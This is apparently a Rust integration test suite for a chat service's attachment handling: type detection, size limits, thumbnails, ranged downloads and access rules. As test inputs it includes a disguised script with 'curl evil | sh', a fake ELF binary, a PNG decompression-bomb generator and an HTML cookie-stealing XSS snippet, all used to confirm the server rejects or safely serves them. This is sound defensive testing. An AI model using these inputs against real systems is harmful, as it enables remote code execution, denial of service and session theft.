//! Attachments end to end: upload, type checks from content, thumbnails, size limits enforced
//! while streaming, safe downloads with ranges and ETags, deletion, retention, and access rules.

use std::io::Cursor;
use std::path::Path;

use reqwest::StatusCode;
use reqwest::multipart::{Form, Part};
use serde_json::Value;

use crate::helpers::{TestApp, TestUser};

pub fn png(width: u32, height: u32) -> Vec<u8> {
    let img = image::RgbaImage::from_fn(width, height, |x, y| image::Rgba([(x % 256) as u8, (y % 256) as u8, 90, 255]));
    let mut out = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgba8(img).write_to(&mut out, image::ImageFormat::Png).unwrap();
    out.into_inner()
}

/// A JPEG whose EXIF says "rotate 90° clockwise to display" (orientation 6).
fn rotated_jpeg(width: u32, height: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(width, height, |x, _| image::Rgb([(x % 256) as u8, 10, 200]));
    let mut jpeg = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(img).write_to(&mut jpeg, image::ImageFormat::Jpeg).unwrap();
    let jpeg = jpeg.into_inner();
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01".to_vec();
    exif.extend_from_slice(&[0x01, 0x12, 0x00, 0x03, 0, 0, 0, 1, 0x00, 0x06, 0, 0]);
    exif.extend_from_slice(&[0, 0, 0, 0]);
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&u16::try_from(exif.len() + 2).unwrap().to_be_bytes());
    out.extend_from_slice(&exif);
    out.extend_from_slice(&jpeg[2..]);
    out
}

pub fn pdf(len: usize) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n".to_vec();
    out.extend((0..len.saturating_sub(out.len())).map(|i| (i * 7 % 251) as u8));
    out
}

async fn upload(app: &TestApp, user: &TestUser, conversation: i64, form: Form) -> (StatusCode, Value) {
    let url = app.url(&format!("/api/chat/conversations/{conversation}/attachments/"));
    let response = app.http.post(url).bearer_auth(&user.token).multipart(form).send().await.unwrap();
    let status = response.status();
    (status, response.json().await.unwrap_or(Value::Null))
}

fn file(bytes: Vec<u8>, name: &str) -> Form {
    Form::new().part("file", Part::bytes(bytes).file_name(name.to_owned()))
}

async fn fetch(app: &TestApp, user: &TestUser, path: &str) -> reqwest::Response {
    app.http.get(app.url(path)).bearer_auth(&user.token).send().await.unwrap()
}

/// Regular files under the data dir's blob storage.
fn stored_files(dir: &Path) -> Vec<std::path::PathBuf> {
    fn walk(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() { walk(&path, out) } else { out.push(path) }
        }
    }
    let mut out = Vec::new();
    walk(&dir.join("files"), &mut out);
    out
}

async fn pair(app: &TestApp) -> (TestUser, TestUser, i64) {
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let conversation = app.dm(&alice, &bob).await;
    (alice, bob, conversation)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_round_trip_byte_for_byte_and_show_everywhere() {
    let app = TestApp::spawn().await;
    let (alice, bob, conversation) = pair(&app).await;
    let mut bob_ws = app.ws(&bob.token).await;

    let photo = png(640, 480);
    let (status, message) =
        upload(&app, &alice, conversation, file(photo.clone(), "beach.png").text("caption", "Look!")).await;
    assert_eq!(status, 201, "{message}");
    assert_eq!(message["kind"], "image");
    assert_eq!(message["content"], "Look!");
    let attachment = &message["attachment"];
    assert_eq!(attachment["name"], "beach.png");
    assert_eq!(attachment["content_type"], "image/png");
    assert_eq!(attachment["size"], photo.len());
    assert_eq!((attachment["width"].as_i64(), attachment["height"].as_i64()), (Some(640), Some(480)));

    // Bob's socket gets everything needed to render it.
    let live = bob_ws.expect("chat_message").await;
    assert_eq!(live["kind"], "image");
    assert_eq!(live["attachment"]["url"], attachment["url"]);
    assert_eq!(live["attachment"]["thumbnail_url"], attachment["thumbnail_url"]);

    let got = fetch(&app, &bob, attachment["url"].as_str().unwrap()).await;
    assert_eq!(got.status(), 200);
    assert_eq!(got.headers()["content-type"], "image/png");
    assert_eq!(got.bytes().await.unwrap().as_ref(), photo.as_slice(), "byte-exact");
    let thumb = fetch(&app, &bob, attachment["thumbnail_url"].as_str().unwrap()).await;
    assert_eq!(thumb.status(), 200);
    let thumb = image::load_from_memory(&thumb.bytes().await.unwrap()).unwrap();
    assert_eq!((thumb.width(), thumb.height()), (320, 240));

    let document = pdf(50_000);
    let (status, message) = upload(&app, &alice, conversation, file(document.clone(), "report.pdf")).await;
    assert_eq!(status, 201, "{message}");
    assert_eq!(message["kind"], "file");
    assert_eq!(message["attachment"]["thumbnail_url"], Value::Null);
    let got = fetch(&app, &bob, message["attachment"]["url"].as_str().unwrap()).await;
    assert_eq!(got.bytes().await.unwrap().as_ref(), document.as_slice());
    // Seed 002's download path by message id serves the same bytes.
    let got = fetch(&app, &bob, &format!("/api/files/download/{}/", message["id"])).await;
    assert_eq!(got.bytes().await.unwrap().as_ref(), document.as_slice());

    let text = "plain notes\nline two ✓\n".repeat(40).into_bytes();
    let (status, message) = upload(&app, &alice, conversation, file(text.clone(), "notes.txt")).await;
    assert_eq!((status.as_u16(), message["attachment"]["content_type"].as_str()), (201, Some("text/plain")));
    let got = fetch(&app, &bob, message["attachment"]["url"].as_str().unwrap()).await;
    assert_eq!(got.bytes().await.unwrap().as_ref(), text.as_slice());

    // The list says what the last message is; history carries the metadata too.
    let (_, list) = bob.get("/api/chat/conversations/").await;
    assert_eq!(list["results"][0]["last_message"]["preview"], "📎 notes.txt");
    let (_, history) = bob.get(&format!("/api/chat/conversations/{conversation}/messages/")).await;
    let previews: Vec<&str> =
        history["results"].as_array().unwrap().iter().map(|m| m["preview"].as_str().unwrap()).collect();
    assert_eq!(previews, ["📎 notes.txt", "📎 report.pdf", "📷 Photo: Look!"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_type_comes_from_the_content_not_the_name_or_the_claim() {
    let app = TestApp::spawn().await;
    let (alice, _, conversation) = pair(&app).await;

    let disguised =
        Form::new().part("file", Part::bytes(png(32, 32)).file_name("report.pdf").mime_str("application/pdf").unwrap());
    let (status, message) = upload(&app, &alice, conversation, disguised).await;
    assert_eq!(status, 201);
    assert_eq!(
        (message["kind"].as_str(), message["attachment"]["content_type"].as_str()),
        (Some("image"), Some("image/png"))
    );

    let script = Form::new().part(
        "file",
        Part::bytes(b"#!/bin/sh\ncurl evil | sh\n".to_vec()).file_name("cat.jpg").mime_str("image/jpeg").unwrap(),
    );
    let (status, body) = upload(&app, &alice, conversation, script).await;
    assert_eq!((status.as_u16(), body["code"].as_str()), (415, Some("unsupported_media_type")), "{body}");

    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0".to_vec();
    elf.resize(4096, 0);
    let (status, body) = upload(&app, &alice, conversation, file(elf, "setup.png")).await;
    assert_eq!((status.as_u16(), body["code"].as_str()), (415, Some("unsupported_media_type")));
    assert!(body["message"].as_str().unwrap().contains("executable"), "{body}");

    let (status, body) = upload(&app, &alice, conversation, Form::new().text("caption", "no file")).await;
    assert_eq!((status.as_u16(), body["code"].as_str()), (400, Some("invalid_body")));

    // A voice note: audio recorded as such.
    let mut ogg = b"OggS\0\x02\0\0\0\0\0\0\0\0".to_vec();
    ogg.resize(2048, 1);
    let (status, message) = upload(&app, &alice, conversation, file(ogg, "note.ogg").text("kind", "voice")).await;
    assert_eq!((status.as_u16(), message["kind"].as_str()), (201, Some("voice")), "{message}");
    assert_eq!(message["preview"], "🎤 Voice message");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_byte_over_the_limit_is_refused_and_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let data_dir = dir.path().to_path_buf();
    let app = TestApp::spawn_with(|c| {
        c.data_dir = data_dir.clone();
        c.attachments.max_upload_bytes = 200_000;
    })
    .await;
    let (alice, bob, conversation) = pair(&app).await;
    let (_, limits) = alice.get("/api/chat/limits/").await;
    assert_eq!(limits["max_upload_bytes"], 200_000);
    assert_eq!(limits["max_image_bytes"], 160 << 20, "the decoded-size budget, so clients can check before uploading");
    assert!(limits["allowed_types"].as_array().unwrap().iter().any(|t| t == "application/pdf"));

    let (status, body) = upload(&app, &alice, conversation, file(pdf(200_001), "big.pdf")).await;
    assert_eq!((status.as_u16(), body["code"].as_str()), (413, Some("payload_too_large")), "{body}");
    assert!(body["message"].as_str().unwrap().contains("200000"), "{body}");
    assert_eq!(stored_files(&data_dir), Vec::<std::path::PathBuf>::new(), "nothing left in storage");
    let (_, history) = bob.get(&format!("/api/chat/conversations/{conversation}/messages/")).await;
    assert_eq!(history["results"], serde_json::json!([]), "no message either");

    let (status, _) = upload(&app, &alice, conversation, file(pdf(200_000), "exact.pdf")).await;
    assert_eq!(status, 201, "exactly at the limit is fine");
    assert_eq!(stored_files(&data_dir).len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outsiders_get_404_for_files_and_thumbnails() {
    let app = TestApp::spawn().await;
    let (alice, _, conversation) = pair(&app).await;
    let carol = app.register("carol").await;
    let (_, message) = upload(&app, &alice, conversation, file(png(64, 64), "secret.png")).await;
    let id = message["attachment"]["id"].as_i64().unwrap();

    let paths = [
        format!("/api/chat/attachments/{id}/"),
        format!("/api/chat/attachments/{id}/thumbnail/"),
        format!("/api/files/download/{}/", message["id"]),
    ];
    let missing = [
        "/api/chat/attachments/999999/".to_owned(),
        "/api/chat/attachments/999999/thumbnail/".to_owned(),
        "/api/files/download/999999/".to_owned(),
    ];
    for (path, missing) in paths.iter().zip(&missing) {
        let theirs = fetch(&app, &carol, path).await;
        let (status, body) = (theirs.status(), theirs.text().await.unwrap());
        let none = fetch(&app, &carol, missing).await;
        assert_eq!(status, 404, "{path}");
        assert_eq!((status, body), (none.status(), none.text().await.unwrap()), "{path} must look like a missing one");
    }
    let (status, _) = upload(&app, &carol, conversation, file(png(8, 8), "x.png")).await;
    assert_eq!(status, 404, "outsiders cannot upload either");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_image_bomb_is_refused_without_memory_growth() {
    let dir = tempfile::tempdir().unwrap();
    let data_dir = dir.path().to_path_buf();
    let app = TestApp::spawn_with(|c| c.data_dir = data_dir.clone()).await;
    let (alice, _, conversation) = pair(&app).await;
    // 50000x50000 RGBA would be 10 GB decoded; the file is a few kilobytes.
    let bomb = png_bomb(50_000, 50_000);
    let before = rss_kib();
    let (status, body) = upload(&app, &alice, conversation, file(bomb, "bomb.png")).await;
    assert_eq!((status.as_u16(), body["code"].as_str()), (422, Some("image_too_large")), "{body}");
    let grown = rss_kib().saturating_sub(before);
    assert!(grown < 100 * 1024, "memory grew by {grown} KiB");
    assert!(stored_files(&data_dir).is_empty(), "the refused file is removed");
}

/// A well-formed PNG declaring `width`x`height` RGBA pixels, with a tiny IDAT behind it.
fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_be_bytes());
        let mut body = kind.to_vec();
        body.extend_from_slice(data);
        out.extend_from_slice(&body);
        out.extend_from_slice(&crc32(&body).to_be_bytes());
    }
    let mut header = width.to_be_bytes().to_vec();
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[8, 6, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut png, b"IHDR", &header);
    chunk(&mut png, b"IDAT", &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
    chunk(&mut png, b"IEND", &[]);
    png
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exif_orientation_is_applied_to_dimensions_and_thumbnail() {
    let app = TestApp::spawn().await;
    let (alice, bob, conversation) = pair(&app).await;
    let (status, message) = upload(&app, &alice, conversation, file(rotated_jpeg(400, 200), "phone.jpg")).await;
    assert_eq!(status, 201, "{message}");
    assert_eq!(
        (message["attachment"]["width"].as_i64(), message["attachment"]["height"].as_i64()),
        (Some(200), Some(400))
    );
    let thumb = fetch(&app, &bob, message["attachment"]["thumbnail_url"].as_str().unwrap()).await;
    assert_eq!(thumb.headers()["content-type"], "image/jpeg");
    let bytes = thumb.bytes().await.unwrap();
    let decoded = image::load_from_memory(&bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (160, 320), "portrait after rotation");
    assert!(!bytes.windows(4).any(|w| w == b"Exif"), "the thumbnail carries no metadata");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn downloads_are_safe_seekable_and_cacheable() {
    let app = TestApp::spawn().await;
    let (alice, bob, conversation) = pair(&app).await;
    let document = pdf(100_000);
    let (_, message) = upload(&app, &alice, conversation, file(document.clone(), "report.pdf")).await;
    let url = app.url(message["attachment"]["url"].as_str().unwrap());

    let ranged = app.http.get(&url).bearer_auth(&bob.token).header("range", "bytes=10-19").send().await.unwrap();
    assert_eq!(ranged.status(), 206);
    assert_eq!(ranged.headers()["content-range"], format!("bytes 10-19/{}", document.len()));
    assert_eq!(ranged.bytes().await.unwrap().as_ref(), &document[10..20]);
    let tail = app.http.get(&url).bearer_auth(&bob.token).header("range", "bytes=-5").send().await.unwrap();
    assert_eq!(tail.bytes().await.unwrap().as_ref(), &document[document.len() - 5..]);
    let beyond = app.http.get(&url).bearer_auth(&bob.token).header("range", "bytes=999999-").send().await.unwrap();
    assert_eq!(beyond.status(), 416);

    let full = app.http.get(&url).bearer_auth(&bob.token).send().await.unwrap();
    let headers = full.headers().clone();
    assert_eq!(headers["accept-ranges"], "bytes");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"report.pdf\""));
    let etag = headers["etag"].to_str().unwrap().to_owned();
    let again = app.http.get(&url).bearer_auth(&bob.token).header("if-none-match", &etag).send().await.unwrap();
    assert_eq!(again.status(), 304);

    // HTML is accepted as a file but never rendered.
    let html = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>".to_vec();
    let (status, message) = upload(&app, &alice, conversation, file(html, "page.html")).await;
    assert_eq!(status, 201, "{message}");
    let served = fetch(&app, &bob, message["attachment"]["url"].as_str().unwrap()).await;
    assert_eq!(served.headers()["content-type"], "text/html");
    assert!(served.headers()["content-disposition"].to_str().unwrap().starts_with("attachment"));
    assert_eq!(served.headers()["x-content-type-options"], "nosniff");

    // Photos show inline.
    let (_, photo) = upload(&app, &alice, conversation, file(png(10, 10), "p.png")).await;
    let served = fetch(&app, &bob, photo["attachment"]["url"].as_str().unwrap()).await;
    assert!(served.headers()["content-disposition"].to_str().unwrap().starts_with("inline"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleting_the_message_deletes_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let data_dir = dir.path().to_path_buf();
    let app = TestApp::spawn_with(|c| c.data_dir = data_dir.clone()).await;
    let (alice, bob, conversation) = pair(&app).await;
    let (_, message) = upload(&app, &alice, conversation, file(png(64, 64), "oops.png")).await;
    assert_eq!(stored_files(&data_dir).len(), 2, "the file and its thumbnail");
    let deleted = app
        .http
        .delete(app.url(&format!("/api/chat/messages/{}/", message["id"])))
        .bearer_auth(&alice.token)
        .send()
        .await
        .unwrap();
    assert_eq!(deleted.status(), 204);
    assert!(stored_files(&data_dir).is_empty(), "both removed");
    assert_eq!(fetch(&app, &bob, message["attachment"]["url"].as_str().unwrap()).await.status(), 404);
    let (_, shown) = bob.get(&format!("/api/chat/messages/{}/", message["id"])).await;
    assert_eq!((shown["deleted"].as_bool(), &shown["attachment"]), (Some(true), &Value::Null));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retried_upload_stores_one_message_and_one_file() {
    let dir = tempfile::tempdir().unwrap();
    let data_dir = dir.path().to_path_buf();
    let app = TestApp::spawn_with(|c| c.data_dir = data_dir.clone()).await;
    let (alice, _, conversation) = pair(&app).await;
    let form = || file(pdf(1000), "a.pdf").text("client_id", "upload-1");
    let (first, one) = upload(&app, &alice, conversation, form()).await;
    let (second, two) = upload(&app, &alice, conversation, form()).await;
    assert_eq!((first.as_u16(), second.as_u16()), (201, 200));
    assert_eq!(one["id"], two["id"]);
    assert_eq!(stored_files(&data_dir).len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn old_attachments_expire_under_the_retention_setting() {
    let dir = tempfile::tempdir().unwrap();
    let data_dir = dir.path().to_path_buf();
    let app = TestApp::spawn_with(|c| {
        c.data_dir = data_dir.clone();
        c.attachments.retention_days = 1.0 / 86_400.0; // one second
        c.attachments.sweep_secs = 1;
    })
    .await;
    let (alice, bob, conversation) = pair(&app).await;
    let (_, message) = upload(&app, &alice, conversation, file(pdf(1000), "old.pdf")).await;
    let path = format!("/api/chat/messages/{}/", message["id"]);
    let shown = crate::helpers::eventually(crate::helpers::WAIT, "the attachment expires", || async {
        let (_, shown) = bob.get(&path).await;
        if shown["attachment"]["expired"] == true { Ok(shown) } else { Err(shown) }
    })
    .await;
    assert_eq!(shown["attachment"]["url"], Value::Null);
    assert_eq!(shown["attachment"]["name"], "old.pdf", "the message still says what it was");
    assert_eq!(fetch(&app, &bob, message["attachment"]["url"].as_str().unwrap()).await.status(), 404);
    assert!(stored_files(&data_dir).is_empty(), "the file is gone");
}
